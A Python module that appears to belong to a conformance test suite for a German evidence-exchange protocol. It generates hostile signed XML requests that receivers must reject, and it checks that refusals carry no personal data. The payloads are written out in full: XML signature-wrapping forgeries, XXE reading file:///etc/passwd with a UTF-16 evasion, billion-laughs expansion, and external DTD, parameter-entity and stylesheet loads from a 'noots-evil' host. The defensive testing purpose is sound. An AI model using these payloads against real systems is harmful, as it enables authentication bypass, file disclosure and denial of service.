"""Hostile evidence requests: every attack the SAKs and the registers must refuse, as data.

Each builder takes an :class:`AttackKit` (a request factory that can produce valid signed
requests, the parties and subject of the exchange, and optional extra credentials) and returns
a :class:`HostileRequest`: the bytes an attacker would POST, anything that must be sent before
them (the original of a replay), and the EDM code a correct receiver answers with. A correct
answer also carries no personal data of any subject involved (:func:`leaked_personal_data`).

:data:`ATTACKS` names every builder with its expected code and a one-line description, so a
test suite or the provider conformance suite can iterate it::

    kit = AttackKit(factory, consumer="08118079-BPA-87", provider="991-01234ZFZR-41",
                    evidence_type="Fahrzeughalterauskunft", subject=person,
                    other_subject=someone_else, other_consumer="09162000-GEWA-65")
    for attack in ATTACKS.values():
        if not attack.applies_to(kit):
            continue                      # e.g. no revoked credential at hand
        hostile = attack.build(kit)
        for raw in hostile.prelude:
            await client.post(url, content=raw)
        answer = await client.post(url, content=hostile.raw)
        # the answer's code must be hostile.code, and nothing personal may be in it

Every builder starts from a *fresh* valid request (new request id, new envelope id), so the
attacks do not interfere with each other through a receiver's replay cache. The groups:

- **signature wrapping** (``EDM:ERR:0001``): the signed body moved, duplicated, wrapped in an
  unknown element or hidden in a ``ds:Object``; a genuine signature whose reference names an
  id that appears twice, or covers the header only; two signatures; tampered after signing;
  a namespace URI canonicalisation cannot process; no signature; a certificate from another
  CA;
- **hostile XML** (``EDM:ERR:0003``): external entities, entity expansion (also in UTF-16,
  past byte-level checks), external DTDs, parameter entities, a stylesheet instruction,
  more than 5 MiB, nesting deeper than the limit (and deeper than libxml2's own), too many
  elements;
- **freshness** (``EDM:ERR:0003``): the same bytes twice, an envelope created an hour ago;
- **identity** (``EDM:ERR:0001``): a revoked sender, participant X's certificate in an envelope
  that claims to come from Y;
- **token** (``EDM:ERR:0002``): a valid token of another request, a valid token with the IDNr of
  another person in the request, a token sealed by someone other than the VS, an expired
  token, a token issued to another consumer, no token at all.
"""

from __future__ import annotations

import base64
import copy
import dataclasses
import functools
import re
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass, field
from datetime import date, timedelta
from types import MappingProxyType

from lxml import etree
from signxml.algorithms import (
    CanonicalizationMethod,
    DigestAlgorithm,
    SignatureConstructionMethod,
)
from signxml.signer import XMLSigner

from noots.conformance.i18n import Text
from noots.conformance.requests import RequestFactory, SignedRequest
from noots.envelope import ENV_NS, build_envelope
from noots.errors import EdmCode
from noots.messages import NaturalPerson, Subject, build
from noots.signing import DS_NS, XmlSigner
from noots.xml import DEFAULT_LIMITS, parse, serialize

__all__ = [
    "ATTACKS",
    "Attack",
    "AttackKit",
    "HostileRequest",
    "billion_laughs",
    "billion_laughs_utf16",
    "certificate_of_another_participant",
    "deep_nesting",
    "duplicate_id_reference",
    "duplicated_body",
    "external_dtd",
    "find_personal_data",
    "header_only_signature",
    "idnr_of_another_person",
    "leaked_personal_data",
    "moved_signed_body",
    "no_token",
    "oversize",
    "parameter_entity",
    "personal_data",
    "replay",
    "revoked_sender",
    "signature_in_object",
    "stale_envelope",
    "stylesheet_instruction",
    "tampered_after_signing",
    "token_expired",
    "token_for_another_request",
    "token_of_another_consumer",
    "token_sealed_by_consumer",
    "too_many_elements",
    "two_signatures",
    "uncanonicalisable_namespace",
    "unsigned",
    "untrusted_certificate",
    "very_deep_nesting",
    "wrapped_in_unknown_element",
    "xxe_external_entity",
    "xxe_utf16",
]

_ATTACKER_NS = "urn:noots:attacker"
_SIGNATURE = f"{{{DS_NS}}}Signature"
_BODY = f"{{{ENV_NS}}}Body"
_HEADER = f"{{{ENV_NS}}}Header"
# A valid test IDNr (official example) for the forged body when the kit names no other person.
_STAND_IN = NaturalPerson("Angreifer", "Mallory", date(1970, 1, 1), "86095742719")


@dataclass(frozen=True)
class AttackKit:
    """What the builders work with.

    ``factory`` signs as any participant it knows (``consumer_signer``) and seals tokens as
    the VS. ``consumer`` asks ``provider`` for ``evidence_type`` about ``subject``: a request
    the target would answer with evidence, so a refusal that leaks data would show it.
    The optional parts enable more attacks: ``other_subject`` (a *natural* person of the
    population other than ``subject``), ``other_consumer`` (a participant whose credential
    ``factory`` can sign with), ``revoked_signer`` (a role-consumer credential already revoked
    in the target's CRL, named by its ``participant_id``), ``untrusted_signer`` (a
    credential of ``consumer`` from a CA the target does not trust).
    """

    factory: RequestFactory
    consumer: str
    provider: str
    evidence_type: str
    subject: Subject
    other_subject: NaturalPerson | None = None
    other_consumer: str | None = None
    revoked_signer: XmlSigner | None = field(default=None, repr=False)
    untrusted_signer: XmlSigner | None = field(default=None, repr=False)

    def fresh(self, subject: Subject | None = None, **options: object) -> SignedRequest:
        """A valid signed request of ``consumer`` (new request id, new envelope)."""
        return self.factory.signed(
            consumer=self.consumer,
            provider=self.provider,
            evidence_type=self.evidence_type,
            subject=subject if subject is not None else self.subject,
            **options,
        )

    @property
    def forged_subject(self) -> NaturalPerson:
        """Whom a forged body asks about: another person of the population if known."""
        return self.other_subject or _STAND_IN


@dataclass(frozen=True)
class HostileRequest:
    """What to send: ``prelude`` first (answers not judged), then ``raw``, which a correct
    receiver refuses with ``code`` and without any personal data."""

    raw: bytes = field(repr=False)
    code: EdmCode
    prelude: tuple[bytes, ...] = field(default=(), repr=False)


Builder = Callable[[AttackKit], HostileRequest]
_Payload = bytes | tuple[tuple[bytes, ...], bytes]


@dataclass(frozen=True)
class Attack:
    """One entry of :data:`ATTACKS`. ``needs`` names the optional kit fields it uses
    (``natural_subject``: the kit's subject must be a natural person with an IDNr);
    ``text`` says what it sends, in German and English (the builder's docstring)."""

    name: str
    build: Builder
    code: EdmCode
    text: Text
    needs: frozenset[str] = frozenset()

    @property
    def description(self) -> str:
        """What the attack sends, in the report language."""
        return str(self.text)

    def applies_to(self, kit: AttackKit) -> bool:
        """Whether ``kit`` carries what this attack needs."""
        if "natural_subject" in self.needs and not (
            isinstance(kit.subject, NaturalPerson) and kit.subject.idnr is not None
        ):
            return False
        return all(getattr(kit, need) is not None for need in self.needs - {"natural_subject"})


_REGISTRY: dict[str, Attack] = {}

#: Every attack by name, in a stable order (signature, XML, freshness, identity, token).
ATTACKS: Mapping[str, Attack] = MappingProxyType(_REGISTRY)


def _attack(
    code: EdmCode, *needs: str, de: str
) -> Callable[[Callable[[AttackKit], _Payload]], Builder]:
    """Register a builder; its docstring's first line is the English description, ``de`` the
    German one."""

    def register(function: Callable[[AttackKit], _Payload]) -> Builder:
        @functools.wraps(function)
        def builder(kit: AttackKit) -> HostileRequest:
            payload = function(kit)
            if isinstance(payload, bytes):
                return HostileRequest(payload, code)
            prelude, raw = payload
            return HostileRequest(raw, code, prelude)

        doc = (function.__doc__ or function.__name__).strip().splitlines()[0]
        _REGISTRY[function.__name__] = Attack(
            function.__name__, builder, code, Text(de, doc), frozenset(needs)
        )
        return builder

    return register


# -- helpers ----------------------------------------------------------------------------------


def _tree(raw: bytes) -> etree._Element:
    return parse(raw)


def _forged_body(kit: AttackKit, signed: SignedRequest) -> etree._Element:
    """``env:Body`` with the same 0101 (and token) asking about another person."""
    forged = dataclasses.replace(signed.request, subject=kit.forged_subject)
    body = etree.Element(_BODY, nsmap={"env": ENV_NS})
    body.append(build(forged))
    return body


def _signed_by_reference(
    kit: AttackKit, root: etree._Element, reference_uri: str
) -> etree._Element:
    """A genuine enveloped signature of ``kit.consumer`` whose reference is ``reference_uri``
    (an ``#id``), not the whole document: what the protocol forbids."""
    signer = kit.factory.consumer_signer(kit.consumer)
    xml_signer = XMLSigner(
        method=SignatureConstructionMethod.enveloped,
        signature_algorithm=signer.signature_method,
        digest_algorithm=DigestAlgorithm.SHA256,
        c14n_algorithm=CanonicalizationMethod.EXCLUSIVE_XML_CANONICALIZATION_1_0,
    )
    signed: etree._Element = xml_signer.sign(
        root, key=signer.private_key, cert=[signer.certificate], reference_uri=reference_uri
    )
    return signed


def _with_doctype(raw: bytes, doctype: bytes, reference: bytes | None = None) -> bytes:
    """``raw`` with ``doctype`` after the XML declaration and ``reference`` as the Purpose."""
    declaration, newline, rest = raw.partition(b"\n")
    if not declaration.startswith(b"<?xml"):
        declaration, newline, rest = b"", b"", raw
    if reference is not None:
        start = rest.index(b"<env:Purpose>") + len(b"<env:Purpose>")
        end = rest.index(b"</env:Purpose>")
        rest = rest[:start] + reference + rest[end:]
    return declaration + newline + doctype + b"\n" + rest


def _nested(depth: int) -> bytes:
    return (f'<x:n xmlns:x="{_ATTACKER_NS}">' * depth + "</x:n>" * depth).encode()


def _inside_body(raw: bytes, payload: bytes) -> bytes:
    """``payload`` inserted as the last child of the 0101 (the signature no longer matches,
    but the parser's limits must refuse it before anyone looks)."""
    marker = b"</xn-de:DE.EvidenceRequest.0101>"
    at = raw.index(marker)
    return raw[:at] + payload + raw[at:]


# -- signature wrapping (EDM:ERR:0001) ----------------------------------------------------------


@_attack(
    EdmCode.AUTHENTICATION,
    de="Der signierte Body in den Header verschoben, ein gefälschter Body an seiner Stelle.",
)
def moved_signed_body(kit: AttackKit) -> _Payload:
    """The signed Body moved into the Header, a forged Body in its place."""
    root = _tree(kit.fresh().raw)
    original = root.find(_BODY)
    assert original is not None
    header = root.find(_HEADER)
    assert header is not None
    position = root.index(original)
    header.append(original)
    root.insert(position, _forged_body(kit, kit.fresh()))
    return serialize(root)


@_attack(
    EdmCode.AUTHENTICATION,
    de="Ein gefälschter Body vor dem signierten: wer den ersten Body liest, liest die Fälschung.",
)
def duplicated_body(kit: AttackKit) -> _Payload:
    """A forged Body before the signed one: a reader taking the first Body reads the forgery."""
    root = _tree(kit.fresh().raw)
    original = root.find(_BODY)
    assert original is not None
    original.addprevious(_forged_body(kit, kit.fresh()))
    return serialize(root)


@_attack(
    EdmCode.AUTHENTICATION,
    de=(
        "Ein gefälschter Umschlag, dessen unbekanntes Erweiterungselement das ganze signierte "
        "Original trägt."
    ),
)
def wrapped_in_unknown_element(kit: AttackKit) -> _Payload:
    """A forged envelope whose unknown extension element carries the whole signed original."""
    signed = kit.fresh()
    original = _tree(signed.raw)
    root = build_envelope(signed.header, _forged_body(kit, signed)[0])
    wrapper = etree.SubElement(root, f"{{{_ATTACKER_NS}}}Extension", nsmap={"x": _ATTACKER_NS})
    wrapper.append(original)
    return serialize(root)


@_attack(
    EdmCode.AUTHENTICATION,
    de="Ein gefälschter Umschlag mit der Originalsignatur, das signierte Original in ds:Object.",
)
def signature_in_object(kit: AttackKit) -> _Payload:
    """A forged envelope carrying the original signature, the signed original in ds:Object."""
    signed = kit.fresh()
    original = _tree(signed.raw)
    signature = original.find(_SIGNATURE)
    assert signature is not None
    original.remove(signature)
    root = build_envelope(signed.header, _forged_body(kit, signed)[0])
    holder = etree.SubElement(signature, f"{{{DS_NS}}}Object")
    holder.append(original)
    root.append(signature)
    return serialize(root)


@_attack(
    EdmCode.AUTHENTICATION,
    de="Eine echte Signatur über ``#body`` und ein gefälschter Body mit derselben Id davor.",
)
def duplicate_id_reference(kit: AttackKit) -> _Payload:
    """A genuine signature over ``#body``, and a forged Body with the same Id placed first."""
    signed = kit.fresh()
    root = build_envelope(signed.header, build(signed.request))
    body = root.find(_BODY)
    assert body is not None
    body.set("Id", "body")
    root = _signed_by_reference(kit, root, "#body")
    forged = _forged_body(kit, kit.fresh())
    forged.set("Id", "body")
    signed_body = root.find(_BODY)
    assert signed_body is not None
    signed_body.addprevious(forged)
    return serialize(root)


@_attack(
    EdmCode.AUTHENTICATION,
    de="Eine echte Signatur, die nur den Header abdeckt (``#header``); der Body ist gefälscht.",
)
def header_only_signature(kit: AttackKit) -> _Payload:
    """A genuine signature that covers only the Header (``#header``); the Body is forged."""
    signed = kit.fresh()
    root = build_envelope(signed.header, _forged_body(kit, signed)[0])
    header = root.find(_HEADER)
    assert header is not None
    header.set("Id", "header")
    return serialize(_signed_by_reference(kit, root, "#header"))


@_attack(
    EdmCode.AUTHENTICATION,
    de="Die gültige Signatur zweimal: welche zählt, bliebe dem Prüfenden überlassen.",
)
def two_signatures(kit: AttackKit) -> _Payload:
    """The valid signature twice: which one counts would be the verifier's guess."""
    root = _tree(kit.fresh().raw)
    signature = root.find(_SIGNATURE)
    assert signature is not None
    signature.addprevious(copy.deepcopy(signature))
    return serialize(root)


@_attack(
    EdmCode.AUTHENTICATION,
    de=(
        "Die signierte Nachweisanfrage, danach die Person geändert (der Hashwert stimmt nicht "
        "mehr)."
    ),
)
def tampered_after_signing(kit: AttackKit) -> _Payload:
    """The signed request with its subject changed afterwards (digest no longer matches)."""
    signed = kit.fresh()
    root = _tree(signed.raw)
    body = root.find(_BODY)
    assert body is not None
    body.remove(body[0])
    body.append(build(dataclasses.replace(signed.request, subject=kit.forged_subject)))
    return serialize(root)


@_attack(EdmCode.AUTHENTICATION, de="Die Nachweisanfrage ohne ihre Signatur.")
def unsigned(kit: AttackKit) -> _Payload:
    """The request without its signature."""
    root = _tree(kit.fresh().raw)
    signature = root.find(_SIGNATURE)
    assert signature is not None
    root.remove(signature)
    return serialize(root)


@_attack(
    EdmCode.AUTHENTICATION,
    de="Ein Namensraum-URI, in einen relativen geändert, den exklusive C14N nicht verarbeitet.",
)
def uncanonicalisable_namespace(kit: AttackKit) -> _Payload:
    """A namespace URI changed to a relative one, which exclusive C14N refuses to process."""
    raw = kit.fresh().raw
    uri = b'xmlns:bn-beh="http://'
    at = raw.index(uri) + len(uri) - 3
    return raw[:at] + b";" + raw[at + 1 :]


@_attack(
    EdmCode.AUTHENTICATION,
    "untrusted_signer",
    de=(
        "Im Namen des Datennutzers signiert, mit einem Zertifikat einer CA, der das Ziel "
        "nicht vertraut."
    ),
)
def untrusted_certificate(kit: AttackKit) -> _Payload:
    """Signed by the consumer's name with a certificate from a CA the target does not trust."""
    assert kit.untrusted_signer is not None
    return kit.fresh(signer=kit.untrusted_signer).raw


# -- hostile XML (EDM:ERR:0003) -------------------------------------------------------------------


@_attack(
    EdmCode.INVALID_REQUEST,
    de="Eine externe Entität (``file:///etc/passwd``), im Header referenziert (XXE).",
)
def xxe_external_entity(kit: AttackKit) -> _Payload:
    """An external entity (``file:///etc/passwd``) referenced from the header (XXE)."""
    doctype = b'<!DOCTYPE env:TransportEnvelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    return _with_doctype(kit.fresh().raw, doctype, b"&xxe;")


@_attack(
    EdmCode.INVALID_REQUEST,
    de=(
        "Verschachtelte interne Entitäten, die sich zu einer Milliarde Kopien aufblähen "
        '("billion laughs").'
    ),
)
def billion_laughs(kit: AttackKit) -> _Payload:
    """Nested internal entities that expand to a billion copies ("billion laughs")."""
    entities = [b'<!ENTITY lol0 "lol">']
    for level in range(1, 10):
        refs = f"&lol{level - 1};".encode() * 10
        entities.append(f"<!ENTITY lol{level} ".encode() + b'"' + refs + b'">')
    doctype = b"<!DOCTYPE env:TransportEnvelope [" + b"".join(entities) + b"]>"
    return _with_doctype(kit.fresh().raw, doctype, b"&lol9;")


def _utf16(raw: bytes) -> bytes:
    """The same document encoded as UTF-16 (with BOM): byte-level checks for ``<!DOCTYPE``
    see interleaved zero bytes and find nothing."""
    text = raw.decode("utf-8").replace("encoding='UTF-8'", "encoding='UTF-16'", 1)
    return text.encode("utf-16")


@_attack(
    EdmCode.INVALID_REQUEST,
    de=(
        "Der Angriff mit externer Entität in einem UTF-16-Dokument, an jeder DTD-Prüfung auf "
        "Byte-Ebene vorbei."
    ),
)
def xxe_utf16(kit: AttackKit) -> _Payload:
    """The external entity attack in a UTF-16 document, past any byte-level DTD check."""
    return _utf16(xxe_external_entity(kit).raw)


@_attack(
    EdmCode.INVALID_REQUEST,
    de="Entitätenexpansion in einem UTF-16-Dokument, an jeder DTD-Prüfung auf Byte-Ebene vorbei.",
)
def billion_laughs_utf16(kit: AttackKit) -> _Payload:
    """Entity expansion in a UTF-16 document, past any byte-level DTD check."""
    return _utf16(billion_laughs(kit).raw)


@_attack(EdmCode.INVALID_REQUEST, de="Ein DOCTYPE, der eine externe DTD aus dem Netz lädt.")
def external_dtd(kit: AttackKit) -> _Payload:
    """A DOCTYPE that loads an external DTD from the network."""
    doctype = b'<!DOCTYPE env:TransportEnvelope SYSTEM "http://127.0.0.1:9/noots-evil.dtd">'
    return _with_doctype(kit.fresh().raw, doctype)


@_attack(
    EdmCode.INVALID_REQUEST,
    de="Eine externe Parameter-Entität, in der DTD selbst expandiert (Out-of-Band-XXE).",
)
def parameter_entity(kit: AttackKit) -> _Payload:
    """An external parameter entity, expanded inside the DTD itself (out-of-band XXE)."""
    doctype = (
        b"<!DOCTYPE env:TransportEnvelope ["
        b'<!ENTITY % remote SYSTEM "http://127.0.0.1:9/noots-evil.dtd"> %remote;]>'
    )
    return _with_doctype(kit.fresh().raw, doctype)


@_attack(
    EdmCode.INVALID_REQUEST,
    de=(
        "Eine ``xml-stylesheet``-Verarbeitungsanweisung (entferntes XSLT) vor dem signierten "
        "Wurzelelement."
    ),
)
def stylesheet_instruction(kit: AttackKit) -> _Payload:
    """An ``xml-stylesheet`` processing instruction (remote XSLT) before the signed root."""
    declaration, newline, rest = kit.fresh().raw.partition(b"\n")
    instruction = b'<?xml-stylesheet type="text/xsl" href="http://127.0.0.1:9/noots-evil.xsl"?>'
    return declaration + newline + instruction + rest


@_attack(
    EdmCode.INVALID_REQUEST,
    de=(
        "Eine gültige Nachweisanfrage, mit Leerraum auf ein Byte über der Grenze von 5 MiB "
        "aufgefüllt."
    ),
)
def oversize(kit: AttackKit) -> _Payload:
    """A valid request padded with white space to one byte over the 5 MiB limit."""
    raw = kit.fresh().raw
    padding = DEFAULT_LIMITS.max_bytes + 1 - len(raw)
    return raw + b" " * max(padding, 1)


@_attack(
    EdmCode.INVALID_REQUEST,
    de="100 verschachtelte Elemente in der 0101: tiefer als die erlaubten 64 Ebenen.",
)
def deep_nesting(kit: AttackKit) -> _Payload:
    """100 nested elements inside the 0101: deeper than the 64 levels allowed."""
    return _inside_body(kit.fresh().raw, _nested(100))


@_attack(
    EdmCode.INVALID_REQUEST,
    de="100.000 verschachtelte Elemente: tiefer, als libxml2 selbst parst.",
)
def very_deep_nesting(kit: AttackKit) -> _Payload:
    """100,000 nested elements: deeper than libxml2 itself parses."""
    return _inside_body(kit.fresh().raw, _nested(100_000))


@_attack(
    EdmCode.INVALID_REQUEST,
    de="60.000 leere Geschwisterelemente in der 0101 (mehr Knoten als erlaubt).",
)
def too_many_elements(kit: AttackKit) -> _Payload:
    """60,000 empty sibling elements inside the 0101 (more nodes than allowed)."""
    payload = f'<x:e xmlns:x="{_ATTACKER_NS}">'.encode() + b"<x:i/>" * 60_000 + b"</x:e>"
    return _inside_body(kit.fresh().raw, payload)


# -- freshness (EDM:ERR:0003) ----------------------------------------------------------------


@_attack(
    EdmCode.INVALID_REQUEST,
    de="Dieselben gültigen Bytes zweimal gesendet: die zweite Kopie ist eine Wiederholung.",
)
def replay(kit: AttackKit) -> _Payload:
    """The same valid bytes sent twice: the second copy is a replay."""
    raw = kit.fresh().raw
    return (raw,), raw


@_attack(
    EdmCode.INVALID_REQUEST,
    de="Eine gültig signierte Nachweisanfrage, deren Umschlag vor einer Stunde erstellt wurde.",
)
def stale_envelope(kit: AttackKit) -> _Payload:
    """A validly signed request whose envelope was created an hour ago."""
    return kit.fresh(created=kit.factory.clock.now() - timedelta(hours=1)).raw


# -- identity (EDM:ERR:0001) ----------------------------------------------------------------------


@_attack(
    EdmCode.AUTHENTICATION,
    "revoked_signer",
    de="Eine Nachweisanfrage, signiert von einem Teilnehmer, dessen Zertifikat gesperrt ist.",
)
def revoked_sender(kit: AttackKit) -> _Payload:
    """A request signed by a participant whose certificate has been revoked."""
    signer = kit.revoked_signer
    assert signer is not None
    sender = signer.participant_id or kit.consumer
    request = kit.factory.request(
        consumer=sender,
        provider=kit.provider,
        evidence_type=kit.evidence_type,
        subject=kit.subject,
    )
    return kit.factory.sign(request, signer=signer).raw


@_attack(
    EdmCode.AUTHENTICATION,
    "other_consumer",
    de="Das gültige Zertifikat von Teilnehmer X auf einem Umschlag, der vorgibt, von Y zu kommen.",
)
def certificate_of_another_participant(kit: AttackKit) -> _Payload:
    """Participant X's valid certificate on an envelope that claims to come from Y."""
    assert kit.other_consumer is not None
    return kit.fresh(signer=kit.factory.consumer_signer(kit.other_consumer)).raw


# -- tokens (EDM:ERR:0002) -------------------------------------------------------------------


@_attack(
    EdmCode.AUTHORISATION,
    de=(
        "Ein gültiges Token, das die Vermittlungsstelle für eine andere Nachweisanfrage "
        "derselben Beteiligten gesiegelt hat."
    ),
)
def token_for_another_request(kit: AttackKit) -> _Payload:
    """A valid token the VS sealed for another request of the same parties."""
    other = kit.fresh()
    request = kit.factory.request(
        consumer=kit.consumer,
        provider=kit.provider,
        evidence_type=kit.evidence_type,
        subject=kit.subject,
    )
    return kit.factory.sign(request, issued_token=other.issued_token).raw


@_attack(
    EdmCode.AUTHORISATION,
    "other_subject",
    "natural_subject",
    de=(
        "Ein gültiges Token für eine Nachweisanfrage zu einer Person, in einer "
        "Nachweisanfrage zu einer anderen (IDNr)."
    ),
)
def idnr_of_another_person(kit: AttackKit) -> _Payload:
    """A valid token for a request about one person, in a request about another (IDNr)."""
    assert kit.other_subject is not None
    original = kit.fresh()
    forged = dataclasses.replace(original.request, subject=kit.other_subject, issued_token="")
    return kit.factory.sign(forged, issued_token=original.issued_token).raw


@_attack(
    EdmCode.AUTHORISATION,
    de=(
        "Ein Token mit richtigem Inhalt, gesiegelt vom Datennutzer statt von der "
        "Vermittlungsstelle."
    ),
)
def token_sealed_by_consumer(kit: AttackKit) -> _Payload:
    """A token with the right content, sealed by the consumer instead of the VS."""
    return kit.fresh(token_signer=kit.factory.consumer_signer(kit.consumer)).raw


@_attack(
    EdmCode.AUTHORISATION,
    de=(
        "Ein echtes Token der Vermittlungsstelle für diese Nachweisanfrage, vor fünf Minuten "
        "abgelaufen."
    ),
)
def token_expired(kit: AttackKit) -> _Payload:
    """A genuine token of the VS for this request that expired five minutes ago."""
    now = kit.factory.clock.now()
    changes = {"issued_at": now - timedelta(minutes=10), "expires_at": now - timedelta(minutes=5)}
    return kit.fresh(token_changes=changes).raw


@_attack(
    EdmCode.AUTHORISATION,
    "other_consumer",
    de=(
        "Ein echtes Token für diese Nachweisanfrage, aber für einen anderen Datennutzer "
        "ausgestellt."
    ),
)
def token_of_another_consumer(kit: AttackKit) -> _Payload:
    """A genuine token for this request, but issued to another consumer."""
    assert kit.other_consumer is not None
    return kit.fresh(token_changes={"consumer": kit.other_consumer}).raw


@_attack(EdmCode.AUTHORISATION, de="Eine gültig signierte Nachweisanfrage ohne VS-Token.")
def no_token(kit: AttackKit) -> _Payload:
    """A validly signed request without a VS token."""
    return kit.fresh(with_token=False).raw


# -- what must never be in a refusal ---------------------------------------------------------------


def _subject_markers(subject: Subject) -> list[str]:
    if isinstance(subject, NaturalPerson):
        markers = [subject.family_name, subject.given_name, subject.date_of_birth.isoformat()]
        markers.append(subject.date_of_birth.strftime("%d.%m.%Y"))
        if subject.idnr is not None:
            markers.append(subject.idnr)
        return markers
    return [subject.legal_name, *(identifier.value for identifier in subject.identifiers)]


def personal_data(subjects: Iterable[Subject]) -> tuple[str, ...]:
    """The strings that identify ``subjects``: names, date of birth (ISO and German), IDNr;
    for a legal person its name and register numbers."""
    found: list[str] = []
    for subject in subjects:
        for marker in _subject_markers(subject):
            if marker and marker not in found:
                found.append(marker)
    return tuple(found)


# Signature values, digests and certificates are random-looking base64: a short name such as
# "Max" turns up in them by chance, so they are cut out before searching.
_SIGNATURE_PARTS = re.compile(
    rb"<((?:[\w.-]+:)?)(SignatureValue|DigestValue|X509Certificate)\b[^>]*>.*?</\1\2\s*>", re.S
)
# Any other long base64 run may hide an encoded document (an evidence in a RepositoryItem):
# it is decoded and searched as well.
_BASE64_RUN = re.compile(rb"[A-Za-z0-9+/=\s]{40,}")


def _readable_text(answer: bytes) -> str:
    stripped = _SIGNATURE_PARTS.sub(b"", answer)
    texts = [stripped.decode("utf-8", errors="replace")]
    for run in _BASE64_RUN.findall(stripped):
        try:
            texts.append(base64.b64decode(b"".join(run.split()), validate=True).decode("utf-8"))
        except (ValueError, UnicodeDecodeError):
            continue
    return "\n".join(texts)


def leaked_personal_data(answer: bytes, kit: AttackKit) -> list[str]:
    """Which markers of the kit's subjects (and the forged one) appear in ``answer``.

    A refusal may name participants, request ids and the reason; it must never name the
    person (or company) the request was about, nor the one a forgery asked about. Markers are
    matched as whole words in the answer's text and in any base64 it carries, but not inside
    signature values and certificates, where they would only match by chance.
    """
    return find_personal_data(answer, [kit.subject, kit.forged_subject])


def find_personal_data(answer: bytes, subjects: Iterable[Subject]) -> list[str]:
    """Which markers of ``subjects`` (:func:`personal_data`) appear in ``answer``: whole words
    in its text and in any base64 it carries, not inside signature values and certificates."""
    text = _readable_text(answer)
    return [
        marker
        for marker in personal_data(subjects)
        if re.search(rf"(?<!\w){re.escape(marker)}(?!\w)", text)
    ]
